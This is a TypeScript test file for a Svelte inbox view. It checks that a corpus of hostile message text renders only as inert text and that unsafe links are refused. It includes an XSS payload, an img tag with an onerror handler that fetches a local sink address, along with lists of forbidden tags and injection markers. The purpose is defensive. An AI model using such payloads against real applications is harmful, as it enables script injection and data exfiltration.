/**
 * Message text is untrusted: a corpus of hostile senders, titles, bodies, tags and links goes
 * through the inbox list and the detail pane, and must come out as the same text, with not one
 * element, attribute or link made from it. The same corpus runs through the real app in
 * tests/e2e/review.test.mjs.
 */

import { clearMocks } from "@tauri-apps/api/mocks";
import { cleanup, fireEvent, render, screen, waitFor } from "@testing-library/svelte";
import { afterEach, describe, expect, it } from "vitest";
import corpusText from "../../../tests/fixtures/hostile.json?raw";
import type { Message } from "../bindings/Message";
import { safeLink } from "../lib/inbox-links";
import { fakeInbox, message } from "../test-support/inbox";
import { block, idleStatus, iso, NOW } from "../test-support/status";
import Inbox from "./Inbox.svelte";

type Field = string | null | { repeat: string; length: number };
type Entry = { name: string; sender: Field; title: Field; body: Field; link: Field; tags: string[] };

const SINK = "http://127.0.0.1:9";

function expand(field: Field): string | null {
  if (field === null || typeof field === "string") return field?.replaceAll("{{SINK}}", SINK) ?? null;
  return field.repeat.repeat(Math.ceil(field.length / field.repeat.length)).slice(0, field.length);
}

const entries = (JSON.parse(corpusText) as { messages: Entry[] }).messages;
const corpus: Message[] = entries.map((entry, i) =>
  message({
    id: 1000 + i,
    // One group per message, each its own sender, so every one is a row of its own.
    sender: expand(entry.sender),
    source_detail: `hostile ${i}`,
    title: expand(entry.title),
    body: expand(entry.body) ?? "",
    link: expand(entry.link),
    tags: entry.tags.map((t) => expand(t) ?? ""),
    received_at: new Date(NOW - i * 60_000).toISOString(),
  }),
);

/** Everything the corpus could have smuggled in, were it ever parsed as markup. */
const FORBIDDEN = "script, img, svg, iframe, object, embed, style, link, meta, base, form, a, b, image, foreignObject";

function assertInert(root: HTMLElement, context: string): void {
  expect(root.querySelectorAll(FORBIDDEN).length, `${context}: no element from message text`).toBe(0);
  for (const element of root.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      expect(
        attribute.name.startsWith("on"),
        `${context}: no event attribute (${attribute.name} on ${element.tagName})`,
      ).toBe(false);
      expect(attribute.value, `${context}: no url() in any attribute`).not.toMatch(/url\(/i);
      expect(attribute.value, `${context}: no sink address in any attribute`).not.toContain(SINK);
    }
  }
}

afterEach(() => {
  cleanup();
  clearMocks();
});

describe("hostile message text", () => {
  it("the corpus covers what the issue names", () => {
    const all = JSON.stringify(entries);
    for (const needle of ["<script", "onerror", "javascript:", "data:", "<svg", "url(", "\\u202e", "\u202E"]) {
      if (needle === "\\u202e") continue;
      expect(all.toLowerCase(), `the corpus has ${needle}`).toContain(needle.toLowerCase());
    }
    expect(
      corpus.some((m) => m.body.length >= 1_000_000),
      "a 1 MB body",
    ).toBe(true);
    expect(
      corpus.some((m) => m.body.split("\n").some((line) => line.length >= 20_000)),
      "a 20,000-character line",
    ).toBe(true);
  });

  it("shows in the list and the detail pane as text, and makes no element, attribute or unsafe link", async () => {
    const engine = fakeInbox(corpus, idleStatus());
    const { container } = render(Inbox, { status: idleStatus(), now: NOW });
    const list = await screen.findByTestId("inbox-list");
    await waitFor(() => expect(screen.getAllByTestId("message-row").length).toBeGreaterThan(0));

    for (const [i, expected] of corpus.entries()) {
      if (i > 0) await fireEvent.keyDown(list, { key: "j" });
      const name = entries[i]?.name ?? String(i);
      await waitFor(
        () => expect(screen.getByTestId("detail-body").textContent, `${name}: the whole body`).toBe(expected.body),
        {
          timeout: 3000,
        },
      );
      expect(screen.getByTestId("detail-sender").textContent, `${name}: the sender as text`).toBe(
        expected.sender ?? "—",
      );
      expect(screen.getByTestId("detail-title").textContent, `${name}: the title as text`).toBe(
        expected.title ?? expected.sender ?? "Message",
      );
      const row = container.querySelector(`#message-${expected.id}`);
      // The row leaves out the sender its group's heading names; the heading shows it.
      const heading = row?.closest("[role=group]")?.querySelector("[data-testid=group-heading]");
      expect(heading?.textContent, `${name}: the list shows the sender as text`).toContain(expected.sender ?? "");

      const offered = safeLink(expected.link);
      const button = screen.queryByTestId("detail-link");
      if (offered === null) {
        expect(button, `${name}: no link offered for ${JSON.stringify(expected.link)}`).toBeNull();
      } else {
        expect(button?.tagName, `${name}: a checked link is a button that asks the engine`).toBe("BUTTON");
        expect(button?.textContent?.trim()).toBe(offered);
      }
      assertInert(container, name);
    }

    // Enter on a refused link does nothing; on the offered one it goes through open_link only.
    await fireEvent.keyDown(list, { key: "Home" });
    await fireEvent.keyDown(list, { key: "Enter" });
    const opened = engine.calls.filter((c) => c.cmd === "open_link");
    expect(opened, "javascript: is never handed to open_link").toEqual([]);
    expect(
      document.head.querySelectorAll("script, style:not([data-vite-dev-id]), link, meta[http-equiv], base").length,
    ).toBe(0);
    // It walks the whole corpus through the view, the 1 MB body included: more than the default 5 s
    // on a loaded machine.
  }, 30_000);

  it("shows a focus block's intent in the detail pane's story as text", async () => {
    const intent = `<img src=x onerror="fetch('${SINK}/intent')"><b>draft</b>`;
    const engine = fakeInbox([message({ id: 1, decision: "held", state: "released", block_id: 4, digest_id: 9 })]);
    engine.stories[1] = {
      block: block({ id: 4, intent, started_at: iso(NOW - 3_600_000), ended_at: iso(NOW - 600_000) }),
      digest: { id: 9, at: iso(NOW - 600_000), reason: "focus", count: 1, by_sender: [], by_source: [], text: intent },
    };
    const { container } = render(Inbox, { status: idleStatus(), now: NOW });
    await waitFor(() => expect(screen.getByTestId("detail-story").textContent).toContain(`“${intent}”`));
    assertInert(container, "the intent");
  });
});
